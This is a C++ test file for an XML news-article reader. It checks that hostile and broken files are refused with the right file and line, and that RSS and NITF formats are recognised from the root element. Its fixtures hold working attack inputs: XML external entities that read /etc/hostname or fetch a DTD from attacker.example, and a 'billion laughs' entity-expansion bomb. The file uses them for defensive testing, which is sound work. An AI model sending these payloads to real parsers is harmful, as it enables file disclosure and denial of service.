// XML input as every XML reader gets it: hostile documents (external entities, an entity
// expansion bomb in the shape of the "billion laughs" of common practice, a cut-off file) are
// refused naming the file and line, and the format of a .xml file or one of unknown suffix is
// told from its root element.

#include "core/io/article_reader.h"
#include "tests/io/reader_test_support.h"

#include <QTemporaryDir>

using namespace fourfold;
using namespace fourfold::test;

namespace {

// Ten levels of ten references: 10^9 copies of "lol" if expanded (common practice: the
// "billion laughs" entity-expansion attack).
QByteArray entityBomb()
{
    QByteArray bytes = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n<!ENTITY lol0 \"lol\">\n";
    for (int level = 1; level <= 9; ++level) {
        bytes += "<!ENTITY lol" + QByteArray::number(level) + " \"";
        for (int i = 0; i < 10; ++i)
            bytes += "&lol" + QByteArray::number(level - 1) + ";";
        bytes += "\">\n";
    }
    bytes += "]>\n<rss version=\"2.0\"><channel>\n<item><guid>g</guid><description>&lol9;"
             "</description></item>\n</channel></rss>\n";
    return bytes;
}

const QByteArray minimalRss =
    "<rss version=\"2.0\"><channel><title>Bay Notes</title>\n"
    "<item><guid>n1</guid><title>Tide tables</title><description>New tables are out."
    "</description></item>\n</channel></rss>\n";

const QByteArray minimalNitf =
    "<?xml version=\"1.0\"?>\n<!DOCTYPE nitf SYSTEM \"nitf-3-6.dtd\">\n<nitf><head>"
    "<docdata><doc-id id-string=\"bws-1\"/></docdata></head>\n<body><body.head><hedline><hl1>"
    "Pier reopens</hl1></hedline></body.head><body.content><p>The pier is open again.</p>"
    "</body.content></body></nitf>\n";

} // namespace

TEST_CASE("XML input: hostile and broken files are refused naming file and line", "[io][xml]")
{
    const BadInput cases[] = {
        {"an external entity (nothing is read from outside the file)",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n<!ENTITY secret SYSTEM "
            "\"file:///etc/hostname\">\n]>\n<rss version=\"2.0\"><channel><item><guid>g</guid>"
            "<description>&secret;</description></item></channel></rss>\n",
            ErrorCode::InvalidInput, 3, 0, "declares the external entity \"secret\""},
        {"an external parameter entity",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n\n<!ENTITY % remote SYSTEM "
            "\"http://attacker.example/x.dtd\">\n]>\n<rss version=\"2.0\"/>\n",
            ErrorCode::InvalidInput, 4, 0, "declares the external entity \"remote\""},
        // Refused where &lol9; is referenced (line 15), not expanded.
        {"an entity-expansion bomb", entityBomb(), ErrorCode::InvalidInput, 15, 0,
            "its entities expand too far"},
        {"a file cut off in the middle",
            "<rss version=\"2.0\"><channel>\n<item><guid>g</guid>\n<description>Half a",
            ErrorCode::InvalidInput, 3, 0, "the file is not well-formed XML"},
        {"mismatched tags",
            "<rss version=\"2.0\"><channel>\n<item><guid>g</guid></channel>\n</rss>\n",
            ErrorCode::InvalidInput, 2, 0, "the file is not well-formed XML"},
        {"an entity that no DTD declares",
            "<rss version=\"2.0\"><channel>\n<item><guid>g</guid><description>a&nbsp;b"
            "</description></item></channel></rss>\n",
            ErrorCode::InvalidInput, 2, 0, "the file is not well-formed XML: Entity 'nbsp'"},
        {"an entity of an external DTD that is not read",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE rss SYSTEM \"rss.dtd\">\n<rss version=\"2.0\">"
            "<channel><item><guid>g</guid>\n<description>a&nbsp;b</description></item></channel>"
            "</rss>\n",
            ErrorCode::InvalidInput, 4, 0, "Entity 'nbsp' not defined"},
        {"an encoding other than UTF-8",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<rss version=\"2.0\"/>\n",
            ErrorCode::InvalidInput, 1, 0, "declares the encoding \"ISO-8859-1\""},
        {"invalid UTF-8", "<rss version=\"2.0\">\n<channel>\xff</channel></rss>\n",
            ErrorCode::InvalidInput, 2, 10, "UTF-8"},
        {"an XML root that is neither a feed nor a news item",
            "<?xml version=\"1.0\"?>\n<catalogue><book/></catalogue>\n", ErrorCode::Unsupported, 2,
            0, "the XML root element <catalogue> is neither a feed's"},
    };
    for (const BadInput &input : cases) {
        checkBadInput(QStringLiteral("hostile.xml"), input);
    }
}

TEST_CASE("XML input: internal entities are read as their text", "[io][xml]")
{
    const QByteArray bytes = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n<!ENTITY town "
                             "\"Ellisford\">\n]>\n<rss version=\"2.0\"><channel>\n<item>"
                             "<guid>g</guid><title>News of &town;</title><description>&lt;p&gt;"
                             "&town; harbour&lt;/p&gt; and &town; quay</description></item>\n"
                             "</channel></rss>\n";
    const auto result = readBytes(QStringLiteral("town.xml"), bytes);
    REQUIRE(result.has_value());
    REQUIRE(result->size() == 1);
    CHECK(result->front().title == QStringLiteral("News of Ellisford"));
    CHECK(result->front().text == QStringLiteral("Ellisford harbour\n\nand Ellisford quay"));
}

TEST_CASE(
    "XML input: the format of .xml and unknown suffixes is told from the root element", "[io][xml]")
{
    SECTION("an agency's story.xml is NITF")
    {
        const auto result = readBytes(QStringLiteral("story.xml"), minimalNitf);
        REQUIRE(result.has_value());
        REQUIRE(result->size() == 1);
        CHECK(result->front().externalId == QStringLiteral("bws-1"));
        CHECK(result->front().title == QStringLiteral("Pier reopens"));
        CHECK(result->front().text == QStringLiteral("The pier is open again."));
    }
    SECTION("a feed saved as .xml and one with an unknown suffix")
    {
        for (const char *name : {"feed.xml", "feed.download"}) {
            INFO(name);
            const auto result = readBytes(QString::fromUtf8(name), minimalRss);
            REQUIRE(result.has_value());
            REQUIRE(result->size() == 1);
            CHECK(result->front().externalId == QStringLiteral("n1"));
            CHECK(result->front().outlet == QStringLiteral("Bay Notes"));
            CHECK(result->front().text == QStringLiteral("New tables are out."));
        }
    }
    SECTION("the suffixes and keys of the formats")
    {
        CHECK(importFormatFromPath(QStringLiteral("a.rss")) == ImportFormat::Feed);
        CHECK(importFormatFromPath(QStringLiteral("a.ATOM")) == ImportFormat::Feed);
        CHECK(importFormatFromPath(QStringLiteral("a.nitf")) == ImportFormat::NewsXml);
        CHECK(importFormatFromPath(QStringLiteral("a.newsml")) == ImportFormat::NewsXml);
        CHECK(importFormatFromPath(QStringLiteral("a.xml")) == std::nullopt);
        CHECK(importFormatKey(ImportFormat::Feed) == QStringLiteral("feed"));
        CHECK(importFormatKey(ImportFormat::NewsXml) == QStringLiteral("newsxml"));
        CHECK(importFormatFromKey(QStringLiteral("newsxml")) == ImportFormat::NewsXml);
    }
    SECTION("a forced format must match the root element")
    {
        ImportOptions options;
        options.format = ImportFormat::Feed;
        const auto result = readBytes(QStringLiteral("story.xml"), minimalNitf, options);
        REQUIRE_FALSE(result.has_value());
        CHECK(result.error().code == ErrorCode::Unsupported);
        CHECK(result.error().line == 3);
        CHECK(result.error().message.contains(QStringLiteral("<nitf> is not a feed's")));
    }
    SECTION("a file of unknown suffix that is not XML is still unsupported")
    {
        const auto result = readBytes(QStringLiteral("notes.dat"), "Just some notes.\n");
        REQUIRE_FALSE(result.has_value());
        CHECK(result.error().code == ErrorCode::Unsupported);
        CHECK(result.error().message.contains(QStringLiteral("format cannot be told")));
    }
    SECTION("an XML file larger than the limit is refused before it is read")
    {
        // The limit every whole-file reader shares (maxImportFileSize); a sparse file.
        QTemporaryDir dir;
        REQUIRE(dir.isValid());
        QFile file(dir.filePath(QStringLiteral("big.xml")));
        REQUIRE(file.open(QIODevice::WriteOnly));
        REQUIRE(file.write("<rss version=\"2.0\">") > 0);
        REQUIRE(file.resize(maxImportFileSize + 1));
        file.close();
        const auto result = readArticles(file.fileName(), {});
        REQUIRE_FALSE(result.has_value());
        CHECK(result.error().message.contains(QStringLiteral("a file may be at most 1024 MiB")));
    }
}
